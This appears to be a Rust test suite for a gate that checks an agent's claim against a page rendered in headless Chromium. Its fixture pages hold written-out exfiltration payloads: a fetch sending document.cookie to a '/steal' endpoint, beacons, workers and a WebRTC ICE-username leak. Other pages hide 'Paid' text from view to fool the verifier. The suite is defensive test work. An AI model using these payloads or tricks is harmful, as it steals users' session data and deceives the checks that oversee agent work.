//! `dom_assertion` through the gate, against Debian's real headless Chromium and pages
//! served on 127.0.0.1 whose `#status` is written by JavaScript after load (so a plain
//! HTTP fetch would not see it). A second server on another port stands for "another
//! origin": no request of the page may reach it, with or without the owner's cookie.
//!
//! `#[ignore]`d unless built with `--cfg evident_services` (`.ci/run` installs
//! chromium and sets it); with the cfg, a missing chromium is a failure.

use evident_format::{Claim, Timestamp};
use evident_gate::{Contract, Outcome, Settings};
use evident_rules::State;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;

const SESSION: &str = "sess-7Qx2-Hunter2-owner-cookie";

/// One browser at a time: the machine has two cores, and the reaping check below
/// looks at every child of this process.
static ONE_BROWSER: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());

fn chromium_present() {
    let found = ["/usr/lib/chromium/chromium", "/usr/bin/chromium"]
        .iter()
        .any(|p| std::path::Path::new(p).exists());
    assert!(
        found,
        "chromium is not installed: apt-get install -y --no-install-recommends chromium (.ci/run does)"
    );
}

/// What the other-origin server saw: every connection's first line.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<String>>>);

impl Log {
    fn lines(&self) -> Vec<String> {
        self.0.lock().unwrap().clone()
    }
}

async fn read_head(sock: &mut tokio::net::TcpStream) -> String {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while !buf.windows(4).any(|w| w == b"\r\n\r\n") && buf.len() < 65536 {
        match tokio::time::timeout(Duration::from_secs(5), sock.read(&mut chunk)).await {
            Ok(Ok(n)) if n > 0 => buf.extend_from_slice(&chunk[..n]),
            _ => break,
        }
    }
    String::from_utf8_lossy(&buf).into_owned()
}

/// Another origin (another port of the same host): records whatever reaches it.
async fn other_origin() -> (u16, Log) {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let log = Log::default();
    let seen = log.clone();
    tokio::spawn(async move {
        while let Ok((mut sock, _)) = l.accept().await {
            let head = read_head(&mut sock).await;
            seen.0.lock().unwrap().push(head.replace("\r\n", " | "));
            let _ = sock
                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
                .await;
        }
    });
    (port, log)
}

/// The owner's app. `/api/<state>` answers the order's state only to a request that
/// carries the owner's session cookie; the order pages ask it after load.
async fn app(other: u16) -> (u16, Arc<AtomicUsize>) {
    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = l.local_addr().unwrap().port();
    let api_with_cookie = Arc::new(AtomicUsize::new(0));
    let counter = api_with_cookie.clone();
    tokio::spawn(async move {
        while let Ok((mut sock, _)) = l.accept().await {
            let counter = counter.clone();
            tokio::spawn(async move {
                let head = read_head(&mut sock).await;
                let path = head.split(' ').nth(1).unwrap_or("/").to_string();
                let cookie_ok = head
                    .lines()
                    .any(|l| l.to_ascii_lowercase().starts_with("cookie:") && l.contains(SESSION));
                let (status, ctype, extra, body) = page(&path, other, port, cookie_ok);
                if cookie_ok && path.starts_with("/api/") {
                    counter.fetch_add(1, Ordering::SeqCst);
                }
                let resp = format!(
                    "HTTP/1.1 {status}\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n{extra}Connection: close\r\n\r\n{body}",
                    body.len()
                );
                let _ = sock.write_all(resp.as_bytes()).await;
            });
        }
    });
    (port, api_with_cookie)
}

const LATE_STATUS: &str = r#"<script>
window.addEventListener("load", () => setTimeout(async () => {
  const s = await (await fetch("/api/STATE")).text();
  const d = document.createElement("div");
  d.id = "status"; d.className = "badge"; d.setAttribute("data-state", s.toLowerCase());
  d.textContent = "  " + s + "\n ";
  document.body.appendChild(d);
}, 300));
</script>"#;

fn page(
    path: &str,
    other: u16,
    me: u16,
    cookie_ok: bool,
) -> (&'static str, &'static str, String, String) {
    let html = |body: String| {
        (
            "200 OK",
            "text/html",
            String::new(),
            format!("<!doctype html><html><body><h1>Order 4471</h1>{body}</body></html>"),
        )
    };
    let o = format!("http://127.0.0.1:{other}");
    match path {
        "/orders/paid" => html(LATE_STATUS.replace("STATE", "paid")),
        "/orders/pending" => html(LATE_STATUS.replace("STATE", "pending")),
        "/orders/never" => html("<p>no status here</p>".into()),
        // "Paid" in the DOM, where a person cannot see it (red16's dom_hidden_visible).
        "/orders/scaled" => html(r#"<div id="status" style="transform:scale(0)">Paid</div><div>Pending</div>"#.into()),
        "/orders/clipped" => html(r#"<div id="status" style="clip-path:inset(50%)">Paid</div><div>Pending</div>"#.into()),
        "/orders/offscreen" => html(r#"<div id="status" style="position:absolute;left:-10000px">Paid</div><div>Pending</div>"#.into()),
        "/orders/transparent" => html(r#"<div id="status" style="color:transparent">Paid</div><div>Pending</div>"#.into()),
        "/orders/zerofont" => html(r#"<style>#status{font-size:0} #status::after{content:"Pending";font-size:16px}</style><div id="status">Paid</div>"#.into()),
        "/orders/covered" => html(r#"<div id="status">Paid</div><div style="position:fixed;inset:0;background:#fff;z-index:9">Pending</div>"#.into()),
        "/orders/zeroparent" => html(r#"<div style="width:0;height:0;overflow:hidden"><div id="status">Paid</div></div><div>Pending</div>"#.into()),
        // A page that shows the cookie it was sent.
        "/orders/echo" if cookie_ok => html(format!("<div id=\"status\">session {SESSION}</div>")),
        "/orders/spin" => html(
            "<div id=\"status\">Paid</div><script>window.addEventListener('load', () => { for (;;) {} });</script>".into(),
        ),
        "/orders/hidden" => html(LATE_STATUS.replace("STATE", "paid").replace(
            "document.body.appendChild(d);",
            "d.style.display = 'none'; document.body.appendChild(d);",
        )),
        "/orders/503" => (
            "503 Service Unavailable",
            "text/html",
            String::new(),
            "<!doctype html><html><body><div id=\"status\">Paid</div></body></html>".into(),
        ),
        // Every way a script reaches another origin, then the real status.
        "/orders/exfil" => html(format!(
            r#"<iframe src="{o}/frame"></iframe><img src="{o}/img.png">
<link rel="stylesheet" href="{o}/style.css">
<script>
fetch("{o}/steal?c=" + encodeURIComponent(document.cookie), {{ mode: "no-cors", credentials: "include" }}).catch(() => {{}});
try {{ navigator.sendBeacon("{o}/beacon", "x"); }} catch (e) {{}}
try {{ new WebSocket("ws://127.0.0.1:{other}/ws"); }} catch (e) {{}}
try {{ const x = new XMLHttpRequest(); x.open("GET", "{o}/xhr"); x.send(); }} catch (e) {{}}
try {{ new Worker(URL.createObjectURL(new Blob(["fetch('{o}/worker').catch(() => {{}})"]))); }} catch (e) {{}}
try {{ new Worker("/worker.js"); }} catch (e) {{}}
</script>{}"#,
            LATE_STATUS.replace("STATE", "paid")
        )),
        // WebRTC to a UDP port of the agent's: STUN to it as an ICE server, and a
        // remote offer naming it as a host candidate, the page's text in the ufrag
        // (every connectivity check carries it in its USERNAME).
        "/orders/rtc" => html(format!(
            r#"<div id="shown">Pending</div><script>
(async () => {{
  try {{
    const a = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:{other}" }}] }});
    a.createDataChannel("x"); await a.setLocalDescription(await a.createOffer());
  }} catch (e) {{}}
  try {{
    const fp = Array.from({{ length: 32 }}, () => "AB").join(":");
    const sdp = ["v=0", "o=- 1 2 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0",
      "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 0.0.0.0",
      "a=ice-ufrag:LEAK" + document.getElementById("shown").textContent, "a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa",
      "a=fingerprint:sha-256 " + fp, "a=setup:actpass", "a=mid:0", "a=sctp-port:5000",
      "a=candidate:1 1 udp 2122260223 127.0.0.1 {other} typ host", ""].join("\r\n");
    const b = new RTCPeerConnection();
    await b.setRemoteDescription({{ type: "offer", sdp }});
    await b.setLocalDescription(await b.createAnswer());
    window.__keep = b;
  }} catch (e) {{}}
  setTimeout(() => {{ const d = document.createElement("div"); d.id = "status"; d.textContent = "Paid"; document.body.appendChild(d); }}, 3000);
}})();
</script>"#
        )),
        "/worker.js" => (
            "200 OK",
            "text/javascript",
            String::new(),
            format!("fetch('{o}/worker-file').catch(() => {{}});"),
        ),
        "/redirect" => (
            "302 Found",
            "text/plain",
            format!("Location: http://127.0.0.1:{me}/orders/paid\r\n"),
            String::new(),
        ),
        "/redirect-out" => (
            "302 Found",
            "text/plain",
            format!("Location: {o}/orders/paid\r\n"),
            String::new(),
        ),
        p if p.starts_with("/api/") => {
            let state = if cookie_ok {
                p.trim_start_matches("/api/")
            } else {
                "anonymous"
            };
            let mut s = state.to_string();
            if let Some(c) = s.get_mut(..1) {
                c.make_ascii_uppercase();
            }
            ("200 OK", "text/plain", String::new(), s)
        }
        _ => ("404 Not Found", "text/plain", String::new(), "no".into()),
    }
}

fn claim() -> Value {
    let at = Timestamp::from_instant(time::OffsetDateTime::now_utc() - time::Duration::seconds(5));
    json!({
        "spec_version": "0.1",
        "task": {"id": "mark-4471-paid"},
        "claimed_outcome": "Marked order 4471 paid.",
        "mutations": [{"id": "m1", "kind": "browser_action", "target": "orders/4471", "at": at.as_str()}],
        "evidence": []
    })
}

fn contract(url: &str, expected: &str, extra: &str) -> String {
    format!(
        r##"[policy]
requires = ["dom_assertion"]
max_age_s = 300

[[check]]
id = "order-status"
check_type = "dom_assertion"
covers = {{ kind = "browser_action" }}
source = {{ browser = {{ url = "{url}", selector = "#status", timeout_s = 20, cookies = {{ session = {{ env = "ORDER_SESSION" }} }}{extra} }} }}
expected = {expected}
"##
    )
}

async fn gate(contract_toml: &str) -> Outcome {
    chromium_present();
    let _one = ONE_BROWSER.lock().await;
    let contract = Contract::parse(contract_toml.as_bytes(), "contract.toml")
        .unwrap_or_else(|e| panic!("contract: {e}"));
    let doc = Claim::parse(&serde_json::to_vec(&claim()).unwrap(), "claim.json").unwrap();
    let root = tempfile::tempdir().unwrap();
    let mut env: BTreeMap<String, String> = BTreeMap::new();
    env.insert("ORDER_SESSION".into(), SESSION.into());
    if let Ok(p) = std::env::var("PATH") {
        env.insert("PATH".into(), p);
    }
    let settings = Settings {
        jobs: 2,
        deadline: Duration::from_secs(60),
        context: evident_probes::Context {
            root: root.path().to_path_buf(),
            env,
            baseline: None,
            secrets: Default::default(),
        },
        verifier_id: evident_gate::verifier_id(),
        progress: None,
        only: None,
    };
    let out =
        evident_gate::run::run(&contract.contract, doc, &settings, &|_| false, &|_| None).await;
    let shown = format!("{:?} {}", out.verdict, out.document);
    assert!(!shown.contains(SESSION), "the cookie leaked: {shown}");
    assert_eq!(
        browsers_left(),
        Vec::<String>::new(),
        "chromium left running"
    );
    out
}

/// Chromium processes still under this test process (none may outlive a run).
fn browsers_left() -> Vec<String> {
    let me = std::process::id().to_string();
    let mut found = Vec::new();
    let Ok(dir) = std::fs::read_dir("/proc") else {
        return found;
    };
    for e in dir.flatten() {
        let Ok(stat) = std::fs::read_to_string(e.path().join("stat")) else {
            continue;
        };
        let Some(close) = stat.rfind(')') else {
            continue;
        };
        let comm = &stat[stat.find('(').map_or(0, |i| i + 1)..close];
        let ppid = stat[close + 2..].split(' ').nth(1).unwrap_or("");
        if ppid == me && comm.contains("chrom") {
            found.push(format!("{} {comm}", e.file_name().to_string_lossy()));
        }
    }
    found
}

fn observed(o: &Outcome) -> &Value {
    &o.runs[0].observed
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn status_written_by_javascript_after_load_verifies() {
    let (other, _) = other_origin().await;
    let (port, api) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/orders/paid");
    let o = gate(&contract(
        &url,
        r#"{ text = "Paid", visible = true, count = 1, attributes = { "data-state" = "paid" } }"#,
        "",
    ))
    .await;
    assert_eq!(
        o.verdict.state,
        State::Verified,
        "{}\n{:?}",
        o.verdict.reason,
        o.runs
    );
    let obs = observed(&o);
    assert_eq!(obs["status"], 200);
    assert_eq!(obs["text"], "Paid", "whitespace-normalised");
    assert_eq!(obs["attributes"]["data-state"], "paid");
    assert!(obs["html_sha256"].as_str().is_some_and(|h| h.len() == 64));
    assert!(obs["sandboxed"].is_boolean());
    assert!(
        api.load(Ordering::SeqCst) >= 1,
        "the owner's cookie reached the page's own API"
    );
    // The decided document declares the extension and reads back strictly.
    assert_eq!(
        o.document.to_value()["extensions"],
        json!(["dom_assertion"])
    );
    let text = serde_json::to_vec(&o.document).unwrap();
    Claim::parse(&text, "decided.json").unwrap_or_else(|e| panic!("{e}"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn another_status_refutes() {
    let (other, _) = other_origin().await;
    let (port, _) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/orders/pending");
    let o = gate(&contract(&url, r#"{ text = "Paid" }"#, "")).await;
    assert_eq!(o.verdict.state, State::Refuted, "{}", o.verdict.reason);
    assert_eq!(observed(&o)["text"], "Pending");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn a_hidden_element_is_observed_not_visible() {
    let (other, _) = other_origin().await;
    let (port, _) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/orders/hidden");
    let o = gate(&contract(&url, r#"{ text = "Paid", visible = true }"#, "")).await;
    assert_eq!(o.verdict.state, State::Refuted, "{}", o.verdict.reason);
    assert_eq!(observed(&o)["visible"], false);
}

/// `visible` means a person can see it: text scaled to nothing, clipped away, off the
/// page, transparent, at font size 0 behind `::after` content, covered by another
/// element or inside a zero-size box reads `visible = false` (each read `true` when
/// visible was only CSS visibility and a layout box). The honest twin is
/// `status_written_by_javascript_after_load_verifies`: a plain status is visible.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn text_a_person_cannot_see_is_not_visible() {
    let (other, _) = other_origin().await;
    let (port, _) = app(other).await;
    for page in [
        "scaled",
        "clipped",
        "offscreen",
        "transparent",
        "zerofont",
        "covered",
        "zeroparent",
    ] {
        let url = format!("http://127.0.0.1:{port}/orders/{page}");
        let o = gate(&contract(&url, r#"{ text = "Paid", visible = true }"#, "")).await;
        assert_eq!(observed(&o)["visible"], false, "{page}: {:?}", o.runs);
        assert_eq!(
            o.verdict.state,
            State::Refuted,
            "{page}: {}",
            o.verdict.reason
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn a_selector_that_never_appears_is_unverified() {
    let (other, _) = other_origin().await;
    let (port, _) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/orders/never");
    let started = std::time::Instant::now();
    let o = gate(
        &contract(&url, r#"{ text = "Paid" }"#, "").replace("timeout_s = 20", "timeout_s = 3"),
    )
    .await;
    assert_eq!(o.verdict.state, State::Unverified, "{}", o.verdict.reason);
    let err = o.runs[0].error.clone().unwrap_or_default();
    assert!(err.contains("did not appear"), "{err}");
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "bounded by timeout_s"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn a_server_error_page_is_unverified_even_with_the_text() {
    let (other, _) = other_origin().await;
    let (port, _) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/orders/503");
    let o = gate(&contract(&url, r#"{ text = "Paid" }"#, "")).await;
    assert_eq!(o.verdict.state, State::Unverified, "{}", o.verdict.reason);
    let err = o.runs[0].error.clone().unwrap_or_default();
    assert!(err.contains("503"), "{err}");
}

/// The attack: the page's scripts reach for another origin every way they can
/// (fetch with credentials, an image, a stylesheet, an iframe, a beacon, XHR, a
/// WebSocket, two workers). Nothing arrives there; the page's own status still counts.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn no_request_of_the_page_reaches_another_origin() {
    let (other, log) = other_origin().await;
    let (port, _) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/orders/exfil");
    let o = gate(&contract(&url, r#"{ text = "Paid" }"#, "")).await;
    assert_eq!(
        o.verdict.state,
        State::Verified,
        "{}\n{:?}",
        o.verdict.reason,
        o.runs
    );
    // Give any stray request time to land.
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        log.lines(),
        Vec::<String>::new(),
        "another origin was reached"
    );
    let blocked = observed(&o)["blocked_origins"].to_string();
    assert!(blocked.contains(&format!("127.0.0.1:{other}")), "{blocked}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn redirects_are_refused_unless_followed_and_never_leave_the_origin() {
    let (other, log) = other_origin().await;
    let (port, _) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/redirect");
    let o = gate(&contract(&url, r#"{ text = "Paid" }"#, "")).await;
    assert_eq!(o.verdict.state, State::Unverified, "{}", o.verdict.reason);
    assert!(
        o.runs[0]
            .error
            .clone()
            .unwrap_or_default()
            .contains("redirect")
    );
    let o = gate(&contract(
        &url,
        r#"{ text = "Paid" }"#,
        r#", redirects = "follow""#,
    ))
    .await;
    assert_eq!(
        o.verdict.state,
        State::Verified,
        "{}\n{:?}",
        o.verdict.reason,
        o.runs
    );
    let out = format!("http://127.0.0.1:{port}/redirect-out");
    let o = gate(
        &contract(
            &out,
            r#"{ text = "Paid" }"#,
            r#", redirects = "follow", timeout_s = 4"#,
        )
        .replace("timeout_s = 20, ", ""),
    )
    .await;
    assert_eq!(o.verdict.state, State::Unverified, "{}", o.verdict.reason);
    assert_eq!(
        log.lines(),
        Vec::<String>::new(),
        "the redirect reached another origin"
    );
}

/// The attack: a page whose script spins forever from its load event (the same task
/// that completes the document, so no read gets in before it), so the gate's read of
/// it never returns. The run ends at the time limit, unverified, and
/// the browser is killed and reaped (checked by `gate`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn a_page_that_hangs_its_main_thread_is_unverified_in_time() {
    let (other, _) = other_origin().await;
    let (port, _) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/orders/spin");
    let started = std::time::Instant::now();
    let o = gate(
        &contract(&url, r#"{ text = "Paid" }"#, "").replace("timeout_s = 20", "timeout_s = 4"),
    )
    .await;
    assert_eq!(o.verdict.state, State::Unverified, "{}", o.verdict.reason);
    let err = o.runs[0].error.clone().unwrap_or_default();
    assert!(err.contains("did not appear"), "{err}");
    assert!(
        started.elapsed() < Duration::from_secs(15),
        "{:?}",
        started.elapsed()
    );
}

/// The attack: the page prints the owner's cookie. The observation shows it scrubbed,
/// and no output of the gate carries it (checked by `gate`).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn a_page_echoing_the_cookie_never_shows_it() {
    let (other, _) = other_origin().await;
    let (port, _) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/orders/echo");
    let o = gate(&contract(&url, r#"{ text = "Paid" }"#, "")).await;
    let text = observed(&o)["text"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(
        text.starts_with("session ") && !text.contains(SESSION),
        "{text}"
    );
}

/// Attack (attacks/dom_exfil.sh): a page's RTCPeerConnection sent STUN to a loopback
/// UDP port of the agent's, the page's text in the ICE username, in spite of
/// `--force-webrtc-ip-handling-policy` (which full Chromium does not read). No
/// datagram may arrive; twin: the page still verifies.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[cfg_attr(
    not(evident_services),
    ignore = "needs chromium: .ci/run installs it and runs this"
)]
async fn webrtc_sends_no_udp() {
    let (other, log) = other_origin().await;
    let udp = tokio::net::UdpSocket::bind(("127.0.0.1", other))
        .await
        .unwrap();
    let got = Arc::new(Mutex::new(Vec::<Vec<u8>>::new()));
    let seen = got.clone();
    tokio::spawn(async move {
        let mut buf = [0u8; 65536];
        while let Ok((n, _)) = udp.recv_from(&mut buf).await {
            seen.lock().unwrap().push(buf[..n].to_vec());
        }
    });
    let (port, _) = app(other).await;
    let url = format!("http://127.0.0.1:{port}/orders/rtc");
    let o = gate(&contract(&url, r#"{ text = "Paid" }"#, "")).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(
        o.verdict.state,
        State::Verified,
        "twin: {}\n{:?}",
        o.verdict.reason,
        o.runs
    );
    let datagrams = got.lock().unwrap().clone();
    let leaked = datagrams
        .iter()
        .filter(|d| d.windows(4).any(|w| w == b"LEAK"))
        .count();
    assert!(
        datagrams.is_empty(),
        "{} UDP datagram(s) reached the agent's port, {leaked} with the page's text",
        datagrams.len()
    );
    assert_eq!(
        log.lines(),
        Vec::<String>::new(),
        "another origin was reached"
    );
}
